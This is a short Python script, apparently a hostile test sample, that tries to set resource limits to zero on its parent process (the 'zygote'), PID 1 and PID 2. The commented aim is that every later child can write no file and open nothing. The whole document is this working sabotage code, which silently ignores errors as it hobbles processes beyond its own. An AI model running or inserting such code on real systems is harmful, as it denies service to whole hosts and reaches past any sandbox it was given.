# Lowers the limits of its zygote (and of whatever else it can name), so every child forked
# after it could write no file and open nothing. The gates below are the reference's.
import os
import resource

for _pid in (os.getppid(), 1, 2):
    for _limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_DATA):
        try:
            resource.prlimit(_pid, _limit, (0, 0))
        except (OSError, ValueError):
            pass
